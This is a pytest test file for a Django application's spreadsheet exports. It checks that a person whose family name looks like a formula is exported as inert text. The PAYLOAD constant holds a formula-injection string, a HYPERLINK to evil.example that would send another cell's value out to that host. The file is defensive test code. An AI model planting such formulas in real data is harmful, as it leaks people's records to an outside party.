"""Exports write what people typed as text: a name that looks like a formula stays inert."""

from __future__ import annotations

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories.people import PersonFactory, PostFactory

PAYLOAD = '=HYPERLINK("http://evil.example/?d="&D2,"Xem hồ sơ")'


@pytest.fixture
def rogue(world):  # type: ignore[no-untyped-def]
    person = PersonFactory(family_name=PAYLOAD, middle_name="", given_name="Bình", code="SNV-666")
    PostFactory(person=person, unit=world.unit_a)
    return person


def _formula_cells(content: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def _name_cells(content: bytes) -> list[str]:
    sheet = load_workbook(io.BytesIO(content)).active
    return [str(c.value) for row in sheet.iter_rows() for c in row if PAYLOAD in str(c.value)]


@pytest.mark.parametrize("export", ["people", "unit_people"])
def test_export_of_a_person_named_like_a_formula_has_no_formula(root_client, world, rogue, export):
    if export == "people":
        response = root_client.get(reverse("web:people_xlsx"), {"unit": world.unit_a.pk})
    else:
        response = root_client.get(reverse("web:unit_people_xlsx", args=[world.unit_a.pk]))

    assert response.status_code == 200
    assert _formula_cells(response.content) == []
    assert _name_cells(response.content)  # the name is there, as text
